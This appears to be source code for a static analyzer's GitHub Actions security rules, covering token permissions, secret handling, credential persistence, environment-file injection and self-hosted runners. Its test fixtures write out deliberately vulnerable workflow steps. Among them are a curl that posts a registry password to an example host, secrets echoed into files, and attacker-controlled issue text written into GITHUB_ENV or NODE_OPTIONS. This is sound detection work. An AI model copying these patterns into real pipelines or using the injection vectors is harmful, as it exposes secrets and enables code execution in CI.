          message: `${label} uses ${uses} by tag, as it must: the SLSA generator's builder checks that it was called by a release tag to vouch for its own code, and a commit SHA makes it fail; this is the exception to pinning.`,
          resource: label,
          severity: 'info',
        };
        continue;
      }
      yield {
        line,
        message: ref.docker ? `${label} uses ${uses}, a movable image tag; pin the image digest (@sha256:...).` : `${label} uses ${uses}, a movable tag or branch; pin the full commit SHA.`,
        resource: label,
        severity: owner === 'actions' || owner === 'github' ? 'low' : 'medium',
      };
    }
  },
});

const missingPermissions = workflowRule({
  id: 'iac/gha-missing-permissions',
  title: 'Workflow token permissions not restricted',
  description:
    "Neither the workflow nor the job sets `permissions:`, so the GITHUB_TOKEN gets the repository's default, which is read-write for everything in many organisations. A compromised step (a dependency, an action, an injection) can then push code, create releases or approve pull requests. A job that calls a reusable workflow of the scan which sets permissions at its top or on every job is not reported: GitHub gives the called jobs those permissions, narrowed from what the caller passes.",
  remediation: 'Add `permissions: contents: read` at the top of the workflow and grant more per job only where needed (e.g. `pull-requests: write`).',
  severity: 'medium',
  cwe: ['CWE-250'],
  examples: {
    positive: ['name: ci\non: push\njobs:\n  # expect\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'],
    negative: [
      workflow('      - run: make\n'),
      'name: ci\non: push\njobs:\n  build:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
      'name: reusable\non:\n  workflow_call:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    ],
  },
  *check(wf) {
    if (wf.composite || pair(wf.root, 'permissions')) return;
    // A workflow only ever called by others runs with at most what each caller grants.
    if (wf.triggers.size === 1 && wf.triggers.has('workflow_call')) return;
    for (const job of wf.jobs) {
      // A reusable workflow call inherits what the caller grants; its own permissions apply inside.
      if (pair(job.node, 'permissions')) continue;
      // The called workflow of this repository narrows the token for every one of its jobs (GitHub lets it only downgrade what the caller passes).
      const callee = wf.callers?.calledWorkflow?.(wf, job);
      if (callee && (pair(callee.root, 'permissions') || (callee.jobs.length > 0 && callee.jobs.every((j) => pair(j.node, 'permissions'))))) continue;
      yield { line: job.line, message: `${jobLabel(job)} runs with the default GITHUB_TOKEN permissions; declare the minimum it needs.`, resource: jobLabel(job) };
    }
  },
});

const writeAll = workflowRule({
  id: 'iac/gha-write-all-permissions',
  title: 'Workflow token has write-all permissions',
  description: '`permissions: write-all` gives the GITHUB_TOKEN write access to code, releases, packages, issues and more. Any compromised step can push to the repository or publish packages.',
  remediation: 'Replace write-all with the specific scopes the job needs, e.g. `contents: read` and `pull-requests: write`.',
  severity: 'high',
  cwe: ['CWE-250'],
  examples: {
    positive: [workflow('      - run: make\n', 'push', '# expect\npermissions: write-all\n'), 'name: ci\non: push\npermissions: read-all\njobs:\n  build:\n    # expect\n    permissions: write-all\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'],
    negative: [workflow('      - run: make\n', 'push', 'permissions: read-all\n')],
  },
  *check(wf) {
    const top = pair(wf.root, 'permissions');
    if (top && stringValue(top.value) === 'write-all') yield { line: top.keyLine, message: 'The workflow grants its token write-all permissions.' };
    for (const job of wf.jobs) {
      const p = pair(job.node, 'permissions');
      if (p && stringValue(p.value) === 'write-all') yield { line: p.keyLine, message: `${jobLabel(job)} grants its token write-all permissions.`, resource: jobLabel(job) };
    }
  },
});

const broadPermissions = workflowRule({
  id: 'iac/gha-broad-permissions',
  title: 'Token permissions broader than the jobs need',
  description:
    '`permissions: read-all` lets the GITHUB_TOKEN read every scope (code, packages, security alerts, deployments...), and a write scope granted at the top of the workflow goes to every job that does not declare its own permissions, including jobs that only build or test. A compromised step in any of those jobs can then use it.',
  remediation: 'Set `permissions: {}` or `contents: read` at the top of the workflow and grant each write scope (or read-all) only on the job that needs it.',
  severity: 'medium',
  cwe: ['CWE-250'],
  examples: {
    positive: [
      'name: ci\non: push\npermissions:\n  # expect\n  contents: write\n  pull-requests: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n',
      'name: ci\non: push\n# expect\npermissions: read-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
      'name: ci\non: push\npermissions: {}\njobs:\n  build:\n    # expect\n    permissions: read-all\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    ],
    negative: [
      'name: ci\non: push\npermissions:\n  contents: write\njobs:\n  build:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
      'name: ci\non: push\npermissions: {}\njobs:\n  release:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n',
      // Every job sets its own permissions: the read-all default never applies.
      'name: ci\non: push\npermissions: read-all\njobs:\n  analysis:\n    runs-on: ubuntu-latest\n    permissions:\n      security-events: write\n    steps:\n      - run: make\n',
      // With one job, a scope granted at the top is granted to that job only, as if written there.
      'name: stale\non:\n  schedule:\n    - cron: "0 3 * * *"\npermissions:\n  issues: write\njobs:\n  stale:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    ],
  },
  *check(wf) {
    if (wf.composite) return;
    const top = pair(wf.root, 'permissions');
    // Write scopes and read-all at the top reach only the jobs without their own permissions.
    const inheriting = wf.jobs.filter((job) => !pair(job.node, 'permissions'));
    if (top && stringValue(top.value) === 'read-all' && inheriting.length > 0) yield { line: top.keyLine, message: 'The workflow grants its token read access to every scope (read-all).' };
    for (const job of wf.jobs) {
      const p = pair(job.node, 'permissions');
      if (p && stringValue(p.value) === 'read-all') yield { line: p.keyLine, message: `${jobLabel(job)} grants its token read access to every scope (read-all).`, resource: jobLabel(job) };
    }
    // In a workflow of one job, the top-level permissions are that job's own.
    if (!top || !isYMap(top.value) || inheriting.length === 0 || wf.jobs.length === 1) return;
    for (const scope of top.value.pairs) {
      if (text(scope.value) === 'write')
        yield { line: scope.keyLine, message: `${scope.key}: write is granted to every job that declares no permissions (${inheriting.map((j) => j.id).join(', ')}); grant it on the job that needs it.`, severity: scope.key === 'id-token' || scope.key === 'contents' ? 'high' : 'medium' };
    }
  },
});

const secretInRun = workflowRule({
  id: 'iac/gha-secret-in-run',
  title: 'Secret expanded into a script',
  description:
    'A `${{ secrets.X }}` expression is written into a run: script. The secret becomes part of the script file on the runner and of the command line (visible to every process, e.g. in `ps`), and echoing it relies on log masking, which fails for transformed or multi-line values. A step whose every secret is named as an identifier (AZURE_CLIENT_ID, ARM_TENANT_ID, AWS_ACCOUNT_ID, a project, subscription, app, organization or site id) is reported at low: such a value says whose the credential is, and is no credential itself.',
  remediation: 'Pass secrets through env: (`env: TOKEN: ${{ secrets.TOKEN }}`) and use "$TOKEN" in the script; never echo them.',
  severity: 'medium',
  cwe: ['CWE-532'],
  examples: {
    positive: [workflow('      # expect\n      - run: echo ${{ secrets.NPM_TOKEN }} > ~/.npmrc\n'), workflow('      # expect\n      - run: ./release.sh --token ${{ secrets.RELEASE_TOKEN || github.token }}\n'), workflow('      # expect\n      - run: |\n          # detail\n          curl -H "Authorization: ${{ secrets.API_KEY }}" https://example.org\n'),
      // One finding for the step, however many secrets its script names.
      workflow('      # expect\n      - run: |\n          # detail\n          docker login -u ${{ secrets.REGISTRY_USER }} -p ${{ secrets.REGISTRY_PASSWORD }} registry.example.org\n          curl -d "token=${{ secrets.REGISTRY_PASSWORD }}" https://example.org/hook\n'),
      // Identifiers kept as secrets: reported at low.
      workflow('      # expect\n      - run: |\n          # detail\n          if [ "${{ secrets.AZURE_CLIENT_ID }}" != \'\' ]; then echo "available=true" >> "$GITHUB_OUTPUT"; fi\n')],
    negative: [
      workflow('      - env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: npm publish\n'),
      workflow('      - run: echo "${{ github.sha }}"\n'),
      // Only whether the secret is set reaches the script.
      workflow("      - run: ${{ secrets.DEPLOY_KEY != '' && './deploy.sh' || 'echo no key' }}\n"),
    ],
  },
  *check(wf) {
    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
      if (kind !== 'run') continue;
      // One finding a step: moving its secrets to env: is one fix, however many the script names.
      const written = new Map<string, { line: number; echoed: boolean }>();
      for (const expression of expressions(scalar.value as string)) {
        if (!/\bsecrets\.[\w-]+|\bsecrets\[/.test(expression.inner)) continue;
        // `secrets.X && 'yes' || 'no'` writes 'yes' or 'no', never the secret.
        const tree = parseExpression(expression.inner);
        if (tree && !mayYield(tree, 'secrets')) continue;
        const echoed = printedAt(scalar.value as string, expression.offset, runDialect(wf, step));
        const seen = written.get(expression.raw);
        if (seen) seen.echoed ||= echoed;
        else written.set(expression.raw, { line: lineOfText(wf, scalar, expression.raw, keyLine), echoed });
      }
      if (written.size === 0) continue;
      const entries = [...written].sort((a, b) => a[1].line - b[1].line);
      const echoed = entries.filter(([, w]) => w.echoed);
      const at = inside(keyLine, entries[0]![1].line);
      const what =
        entries.length === 1
          ? `${entries[0]![0]} into its script${detailNote(at)}${echoed.length ? ' and prints it' : ''}; pass it through env: instead.`
          : `${entries.map(([raw, w]) => `${raw}${w.line > keyLine ? ` (line ${w.line})` : ''}`).join(', ')} into its script${echoed.length ? ` and prints ${echoed.length === 1 ? echoed[0]![0] : `${echoed.length} of them`}` : ''}; pass them through env: instead.`;
      // AZURE_CLIENT_ID, AWS_ACCOUNT_ID: whose the credential is, not the credential.
      if (entries.every(([raw]) => IDENTIFIER_SECRET.test(raw))) {
        const [they, names] = entries.length === 1 ? ['it', 'it names an identifier, not a credential'] : ['them', 'they name identifiers, not credentials'];
        yield { ...at, message: `${stepLabel(step)} writes ${what.replace(/; pass (?:it|them) through env: instead\.$/, `; ${names}, but pass ${they} through env: all the same.`)}`, resource: stepLabel(step), severity: 'low' };
        continue;
      }
      yield { ...at, message: `${stepLabel(step)} writes ${what}`, resource: stepLabel(step), severity: echoed.length ? 'high' : 'medium' };
    }
  },
});

/** `${{ secrets.AZURE_CLIENT_ID }}`: a secret named as the id of a client, tenant, subscription, account, project, app, organization or site. */
const IDENTIFIER_SECRET = /^\$\{\{\s*secrets\.(?:[\w-]*[_-])?(?:client|tenant|subscription|account|project|app|application|org|organization|site)[_-]?id\s*\}\}$/i;

const secretsToJson = workflowRule({
  id: 'iac/gha-all-secrets-exposed',
  title: 'All secrets passed at once',
  description: '`toJSON(secrets)` hands every secret of the repository and organisation to a step, and `secrets: inherit` passes all of them to a reusable workflow, when the step needs one or two. One compromised step then leaks everything. `secrets: inherit` is medium for a workflow of another repository, whose next version can read any secret, and low for one of this repository (`uses: ./.github/workflows/...`, or the self form `$/.github/workflows/...`), which reads only the secrets its own text names.',
  remediation: 'Pass only the secrets the step or reusable workflow needs, by name.',
  severity: 'high',
  cwe: ['CWE-200'],
  examples: {
    positive: [workflow('      - env:\n          # expect\n          ALL: ${{ toJSON(secrets) }}\n        run: ./deploy.sh\n'), 'name: ci\non: push\npermissions: {}\njobs:\n  call:\n    uses: org/repo/.github/workflows/deploy.yml@11bd71901bbe5b1630ceea73d27597364c9af683\n    # expect\n    secrets: inherit\n'],
    negative: [workflow('      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: ./deploy.sh\n')],
  },
  *check(wf) {
    const scripts = [...scriptsOf(wf)];
    for (let i = 0; i < wf.lines.length; i++) {
      if (!/\$\{\{[^}]*toJSON\s*\(\s*secrets\s*\)/i.test(wf.lines[i]!)) continue;
      // Inside a multi-line script the finding goes on the script's key.
      const script = scripts.find((s) => i + 1 > s.keyLine && i + 1 <= lastScriptLine(wf, s.scalar));
      const at = script ? inside(script.keyLine, i + 1) : { line: i + 1 };
      yield { ...at, message: `toJSON(secrets) passes every secret to this step${detailNote(at)}.` };
    }
    for (const job of wf.jobs) {
      const p = pair(job.node, 'secrets');
      if (!p || text(p.value) !== 'inherit') continue;
      // A workflow of this repository, at the same commit, can read only the secrets its own text names:
      // a least-privilege matter. One of another repository can read all of them, whatever it is changed to.
      const callee = text(get(job.node, 'uses')) ?? '';
      // By its full name (owner/repo/...@main), from a workflow this repository runs: the same repository, whose owners could change the caller as well.
      if (!parseUses(callee).local && wf.callers?.namesOwnRepository?.(callee, wf))
        yield { line: p.keyLine, message: `${jobLabel(job)} passes all secrets to ${callee}, a reusable workflow of this repository by its full name (secrets: inherit); pass those it uses by name.`, resource: jobLabel(job), severity: 'low' };
      else if (parseUses(callee).local)
        yield { line: p.keyLine, message: `${jobLabel(job)} passes all secrets to ${callee}, a reusable workflow of this repository (secrets: inherit); pass those it uses by name.`, resource: jobLabel(job), severity: 'low' };
      else yield { line: p.keyLine, message: `${jobLabel(job)} passes all secrets to ${callee}, a reusable workflow of another repository (secrets: inherit).`, resource: jobLabel(job), severity: 'medium' };
    }
  },
});

/**
 * An upload-artifact step that ships the work tree with its hidden files, .git/config
 * included: its path is the work tree root, and hidden files are included explicitly or by
 * a version older than v4.4, which did not skip them.
 */
function uploadsWorkTree(step: Step): boolean {
  if (!isAction(step, 'actions/upload-artifact')) return false;
  const paths = (withValue(step, 'path')?.value ?? '').split('\n').map((p) => p.trim());
  const root = paths.some((p) => /^(?:\.\/?|\*\*?|\$\{\{\s*github\.workspace\s*\}\}\/?|\.git(?:\/.*)?)$/.test(p));
  const ref = parseUses(step.uses!).ref ?? '';
  const hidden = withValue(step, 'include-hidden-files')?.value === 'true' || /^v[123](?:\.|$)/.test(ref);
  return root && hidden;
}

/** The last line of the file a script's text is written on: a block (`|`, `>`) starts below its key, a plain or quoted scalar on it. */
function lastScriptLine(wf: Workflow, scalar: YScalar): number {
  const count = String(scalar.value).replace(/\n$/, '').split('\n').length;
  const block = blockScalarOn(wf.lines[scalar.line - 1] ?? '') !== undefined;
  return scalar.line + (block ? count : count - 1);
}

/** A step that pushes with the credentials checkout left: git push, gh pr create, or an action that commits and pushes. */
const PUSH_ACTIONS = ['peter-evans/create-pull-request', 'stefanzweifel/git-auto-commit-action', 'ad-m/github-push-action', 'endbug/add-and-commit'];
const PUSH_COMMAND = /\bgit\s+(?:-[cC]\s+\S+\s+)*push\b|\bgh\s+pr\s+create\b/;

function pushes(step: Step): boolean {
  if (PUSH_ACTIONS.some((a) => isAction(step, a))) return true;
  return typeof step.run?.value === 'string' && joinContinuations(step.run.value).split('\n').some((line) => !/^\s*#/.test(line) && PUSH_COMMAND.test(line));
}

/**
 * The credential checkout keeps for git, for messages: the GITHUB_TOKEN unless `token:`
 * gives another (`secrets.RELEASE_PAT`, an app token), which is then the one kept.
 */
function keptToken(step: Step): string {
  const given = withValue(step, 'token')?.value.trim();
  if (given === undefined || given === '') return 'the GITHUB_TOKEN';
  const inner = /^\$\{\{\s*([^{}]*?)\s*\}\}$/.exec(given)?.[1];
  if (inner !== undefined && /^(?:secrets\.GITHUB_TOKEN|github\.token)$/i.test(inner)) return 'the GITHUB_TOKEN';
  return inner !== undefined ? `the token its token: input gives (${inner})` : 'the token its token: input gives';
}

const persistCredentials = workflowRule({
  id: 'iac/gha-checkout-persist-credentials',
  title: 'Checkout keeps the token in .git/config',
  description:
    'actions/checkout stores the GITHUB_TOKEN (or the token its token: input gives, often a personal access token or an app token with wider rights) in .git/config unless persist-credentials is false. Any later step can read it, and an artifact that holds the work tree with its hidden files publishes it to everyone who can download the run\'s artifacts. From v6 the token is kept in a file under $RUNNER_TEMP that .git/config includes, so it no longer travels with the work tree, but every later step of the job still runs git with it.',
  remediation: 'Set `with: persist-credentials: false` on actions/checkout, and configure credentials explicitly in the one step that pushes.',
  severity: 'low',
  cwe: ['CWE-522'],
  examples: {
    positive: [
      workflow('      # expect\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n'),
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          # expect\n          persist-credentials: true\n      - uses: actions/upload-artifact@v3\n        with:\n          path: .\n'),
      // A personal access token given to checkout is the credential kept, and the message names it.
      workflow('      # expect\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          token: ${{ secrets.RELEASE_PAT }}\n'),
    ],
    negative: [
      workflow(PINNED_CHECKOUT),
      workflow(`${PINNED_CHECKOUT}      - uses: actions/upload-artifact@v3\n        with:\n          path: .\n`),
      // Kept for the step that pushes.
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: true\n      - run: ./update.sh\n      - run: |\n          git commit -am "Update"\n          git push origin HEAD:update\n'),
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: true\n      - uses: peter-evans/create-pull-request@271a8d0340265f705b14b6d32b9829c1cb33d45e # v7.0.8\n'),
    ],
  },
  *check(wf) {
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        if (!isAction(step, 'actions/checkout')) continue;
        const persist = withValue(step, 'persist-credentials');
        if (persist && persist.value === 'false') continue;
        const token = keptToken(step);
        const version = actionRelease(wf, step);
        // v6 keeps the token outside the work tree (a file under $RUNNER_TEMP), so an artifact of the tree no longer carries it.
        const outsideTree = typeof version === 'object' && version.major >= 6;
        // Of a commit whose version nothing names, it is not known where the token goes: not escalated.
        const upload = outsideTree || version === 'unknown' ? undefined : job.steps.find((s) => s.index > step.index && uploadsWorkTree(s));
        // Kept on purpose (persist-credentials: true) for a later step that pushes: that is what it is for.
        if (persist && !upload && job.steps.some((s) => s.index > step.index && pushes(s))) continue;
        yield {
          line: persist ? persist.line : step.usesLine!,
          message: outsideTree
            ? `${stepLabel(step)} keeps ${token} configured for git (in a file under $RUNNER_TEMP, v6 and later), so every later step of the job can use it; set persist-credentials: false unless a later step pushes.`
            : version === 'unknown'
            ? `${stepLabel(step)} keeps ${token} configured for git (in .git/config before v6, in a file under $RUNNER_TEMP from v6; no comment names the version of this commit), so every later step of the job can use it; set persist-credentials: false unless a later step pushes.`
            : upload
            ? `${stepLabel(step)} leaves ${token} in .git/config and ${stepLabel(upload)} uploads the work tree with it as an artifact; set persist-credentials: false.`
            : `${stepLabel(step)} leaves ${token} in .git/config; set persist-credentials: false.`,
          resource: stepLabel(step),
          ...(upload ? { severity: 'high' as const } : {}),
        };
      }
    }
  },
});

const unsecureCommands = workflowRule({
  id: 'iac/gha-unsecure-commands',
  title: 'ACTIONS_ALLOW_UNSECURE_COMMANDS enabled',
  description: 'ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env and add-path workflow commands, which any text printed to the log can trigger: printing attacker-controlled text then sets environment variables like LD_PRELOAD or NODE_OPTIONS for later steps.',
  remediation: 'Remove the variable and write to $GITHUB_ENV / $GITHUB_PATH files instead.',
  severity: 'high',
  cwe: ['CWE-77'],
  examples: {
    positive: [workflow('      - env:\n          # expect\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n        run: make\n')],
    negative: [workflow('      - env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n        run: make\n')],
  },
  *check(wf) {
    const scopes: YMap[] = [];
    const top = get(wf.root, 'env');
    if (isYMap(top)) scopes.push(top);
    for (const job of wf.jobs) {
      const env = get(job.node, 'env');
      if (isYMap(env)) scopes.push(env);
      for (const step of job.steps) {
        const stepEnv = get(step.node, 'env');
        if (isYMap(stepEnv)) scopes.push(stepEnv);
      }
    }
    for (const scope of scopes) {
      const p = pair(scope, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
      if (p && (isTrue(p.value) || text(p.value) === 'true')) yield { line: p.keyLine, message: 'ACTIONS_ALLOW_UNSECURE_COMMANDS lets log output set environment variables and PATH.' };
    }
  },
});

const githubEnvInjection = workflowRule({
  id: 'iac/gha-github-env-injection',
  title: 'Untrusted data written to GITHUB_ENV or GITHUB_PATH',
  description:
    'A script writes data an outsider controls into $GITHUB_ENV or $GITHUB_PATH (in github-script, with core.exportVariable or core.addPath), including, in a privileged workflow, a file read from artifacts another run uploaded (`$(cat pr.txt)` after actions/download-artifact, gh run download, or a local composite action that downloads them). Every later step then runs with attacker-chosen environment variables (LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries: code execution with the job\'s token and secrets. github-script 6.4 and later write core.exportVariable\'s value between a random delimiter, so a variable named in the script that programs do not read as code or as where to find code is not reported: it holds the text as a step\'s `env:` would, unless the workflow puts it into an expression (`${{ env.NAME }}`). A script writes the file it names (`$GITHUB_ENV`; PowerShell\'s `$env:GITHUB_ENV`, as Add-Content, Out-File or `>>` write it) from that line, from the group or loop that line closes (`{ ...; } >> "$GITHUB_ENV"`, `done >> $GITHUB_ENV`) and from the here-document it opens (`cat >> "$GITHUB_ENV" <<EOF`, expanded by the shell unless its delimiter is quoted). The same holds for a value a script writes between a delimiter it makes random (`EOF=$(dd if=/dev/urandom bs=15 count=1 status=none | base64)`, `openssl rand`, `uuidgen`; not `$RANDOM`, whose 32768 values a long text can all hold): the text cannot close it.',
  remediation: 'Do not write untrusted values to GITHUB_ENV/GITHUB_PATH; if a value must flow between steps, use step outputs and validate it against a strict pattern first.',
  severity: 'high',
  cwe: ['CWE-77'],
  examples: {
    positive: [
      workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        # expect\n        run: |\n          # detail\n          echo "TITLE=$TITLE" >> $GITHUB_ENV\n', 'issues'),
      workflow('      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n      # expect\n      - run: |\n          # detail\n          echo "PR=$(cat pr.txt)" >> "$GITHUB_ENV"\n', 'workflow_run'),
      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: core.exportVariable('NODE_OPTIONS', context.payload.issue.title)\n", 'issues'),
      // Before 6.4, github-script's toolkit closed the value with a fixed delimiter, which the text can hold.
      workflow("      - uses: actions/github-script@v6.3.3\n        with:\n          # expect\n          script: core.exportVariable('TITLE', context.payload.issue.title)\n", 'issues'),
      // The variable goes on into an expression of a later script.
      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: core.exportVariable('TITLE', context.payload.issue.title)\n      - run: echo \"${{ env.TITLE }}\"\n", 'issues'),
      // PowerShell names the file $env:GITHUB_ENV and reads the variable as $env:BODY.
      workflow('      - shell: pwsh\n        env:\n          BODY: ${{ github.event.issue.body }}\n        # expect\n        run: |\n          # detail\n          Add-Content -Path $env:GITHUB_ENV -Value "NOTES=$env:BODY"\n', 'issues'),
      // A group whose output goes to the file, closed by a delimiter the body can write itself.
      workflow('      - env:\n          BODY: ${{ github.event.issue.body }}\n        # expect\n        run: |\n          {\n            echo "NOTES<<EOF"\n            echo "$BODY"\n            echo "EOF"\n          # detail\n          } >> "$GITHUB_ENV"\n', 'issues'),
      workflow('      # expect\n      - run: |\n          # detail\n          cat >> "$GITHUB_ENV" <<EOF\n          NOTES=${{ github.event.issue.body }}\n          EOF\n', 'issues'),
    ],
    negative: [
      workflow('      - run: echo "SHA=${{ github.sha }}" >> $GITHUB_ENV\n', 'issues'),
      // A random delimiter the text cannot write: it sets NOTES and nothing else, as a step's env: would.
      workflow('      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: |\n          EOF=$(dd if=/dev/urandom bs=15 count=1 status=none | base64)\n          {\n            echo "NOTES<<$EOF"\n            echo "$BODY"\n            echo "$EOF"\n          } >> "$GITHUB_ENV"\n', 'issues'),
      // The shell expands nothing in a here-document with a quoted delimiter.
      workflow("      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: |\n          cat >> \"$GITHUB_ENV\" <<'EOF'\n          NOTES=$BODY\n          EOF\n", 'issues'),
      workflow('      - run: echo "$HOME/bin" >> $GITHUB_PATH\n', 'push'),
      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: core.exportVariable('ISSUE', String(context.payload.issue.number))\n", 'issues'),
      // The toolkit sets TITLE and nothing else, as a step's env: would; later steps read it as data.
      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: core.exportVariable('TITLE', context.payload.issue.title)\n      - run: ./triage.sh \"$TITLE\"\n", 'issues'),
      // A commented-out line writes nothing.
      workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          ./triage.sh\n          # echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n', 'issues'),
    ],
  },
  *check(wf) {
    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
      if (kind !== 'run') {
        // core.exportVariable / core.addPath in github-script: the same files, written by the toolkit.
        if (!isAction(step, 'actions/github-script')) continue;
        for (const write of githubScriptTaint(wf, step, taintOf(wf, step))) {
          if (write.kind === 'output' || onlySetsItsOwnVariable(wf, step, write)) continue;
          const at = inside(keyLine, lineOfOffset(wf, scalar, write.offset, keyLine));
          const capped = write.source.severity !== undefined;
          yield {
            ...at,
            message: `${stepLabel(step)} writes ${capped ? write.source.text : `attacker-controlled text (${write.source.text.replace(/ \(.*$/, '')})`} to ${write.kind === 'path' ? 'GITHUB_PATH' : 'GITHUB_ENV'} with ${write.call}${detailNote(at)}.`,
            resource: stepLabel(step),
            ...(capped ? { severity: write.source.severity } : {}),
          };
        }
        continue;
      }
      const taint = taintOf(wf, step);
      const script = scalar.value as string;
      const downloaded = (wf.triggers.has('workflow_run') && !workflowRunFromMaintainers(wf)) || step.job.steps.some((s) => isAction(s, 'actions/download-artifact') || downloadsOtherRunArtifacts(s, wf));
      const powershell = runDialect(wf, step) === 'powershell';
      for (const { offset, text: written, file } of envFileWrites(script, runDialect(wf, step), (name) => holdsTextOnly(wf, name))) {
        // PowerShell reads the environment as `$env:NAME` (`${env:NAME}`), and a file with Get-Content (gc, cat).
        const lineText = powershell ? written.replace(/\$\{env:([A-Za-z_]\w*)\}|\$env:([A-Za-z_]\w*)/gi, (_, a: string | undefined, b: string | undefined) => `$${a ?? b}`) : written;
        const fromFile = downloaded && isPrivileged(wf) && (powershell ? /\(\s*(?:Get-Content|gc|cat)\b|<\s*[\w./-]+/i : /\$\(\s*(?:cat|head|tail|jq)\b|<\s*[\w./-]+/).test(lineText);
        const variable = taintedVariable(lineText, taint.env);
        const viaVariable = variable && { ...variable.source, text: `$${variable.name} (set from ${variable.source.text.replace(/ \(.*$/, '')})` };
        const source = worst([...expressions(lineText).map((e) => untrustedSource(e.inner, taint, wf)), viaVariable]);
        if (source || fromFile) {
          const at = inside(keyLine, lineOfOffset(wf, scalar, offset, keyLine));
          // An input whose callers are unknown is only possibly attacker-controlled: no higher than iac/gha-template-injection rates it.
          const capped = !fromFile && source?.severity !== undefined;
          const what = fromFile ? 'downloaded artifact content' : capped ? source!.text : 'attacker-controlled text';
          yield { ...at, message: `${stepLabel(step)} writes ${what} to ${file}${detailNote(at)}.`, resource: stepLabel(step), ...(capped ? { severity: source!.severity } : {}) };
        }
      }
    }
  },
});

function runsOnLabels(node: YNode | null | undefined): string[] {
  if (isYScalar(node)) return [String(node.value ?? '')];
  if (isYSeq(node)) return node.items.map((i) => text(i) ?? '');
  if (isYMap(node)) return [...items(get(node, 'labels')).map((i) => text(i) ?? ''), text(get(node, 'labels')) ?? '', text(get(node, 'group')) ?? ''];
  return [];
}

/**
 * Triggers whose run reads the workflow file of the pull request's merge commit: a fork's
 * pull request runs its own version of the file, so an `if:` or `environment:` in it binds
 * nobody (pull_request_target and the others read the default branch's file).
 */
const WORKFLOW_FROM_PULL_REQUEST = new Set(['pull_request', 'pull_request_review', 'pull_request_review_comment']);

const selfHostedPublic = workflowRule({
  id: 'iac/gha-self-hosted-public-trigger',
  title: 'Self-hosted runner on a public trigger',
  description:
    'A job runs on a self-hosted runner for events anyone can cause (pull_request, issue_comment, ...). On a public repository a fork pull request then runs arbitrary code on your machine, which usually persists between jobs and sits inside your network. ' +
    "For pull_request (and pull_request_review, pull_request_review_comment) nothing in the workflow file is a gate: that run reads the workflow of the pull request's merge commit, so a fork's pull request can drop an `if:` or an `environment:`; only the repository's settings (approval of fork workflows, a runner group closed to public repositories) stop it. " +
    "Triggers that read the default branch's workflow (pull_request_target, issue_comment, workflow_run, ...) are judged with the gates in front of the job (its `if:`, those of the jobs it needs and their steps, a deployment environment): an `if:` that skips every fork event (`github.event.pull_request.head.repo.full_name == github.repository`, `!github.event.pull_request.head.repo.fork`) leaves only the repository's own branches, whose authors can push code for the runner anyway: not reported; a check in a job it needs that fails for forks' pull requests: low; a gate that waits for a maintainer (a label only maintainers add, an author_association, permission or organization membership check, a deployment environment, which can require a reviewer's approval before the job starts): medium.",
  remediation: 'Use GitHub-hosted runners for untrusted events, or ephemeral, isolated self-hosted runners and require approval for fork workflows; under pull_request_target or issue_comment, keep forks out of the job with an `if:` on the head repository or hold it behind a protected environment.',
  severity: 'high',
  confidence: 'medium',
  cwe: ['CWE-284'],
  examples: {
    positive: [
      'name: ci\non: pull_request\npermissions: {}\njobs:\n  build:\n    # expect\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n',
      // A fork's pull_request runs its own copy of this file, without the environment.
      'name: ci\non: pull_request\npermissions: {}\njobs:\n  test:\n    environment: test\n    # expect\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make test\n',
    ],
    negative: [
      'name: ci\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: self-hosted\n    steps:\n      - run: make\n',
      workflow('      - run: make\n', 'pull_request'),
      'name: ci\non: pull_request_target\npermissions: {}\njobs:\n  build:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: self-hosted\n    steps:\n      - run: make\n',
    ],
  },
  *check(wf) {
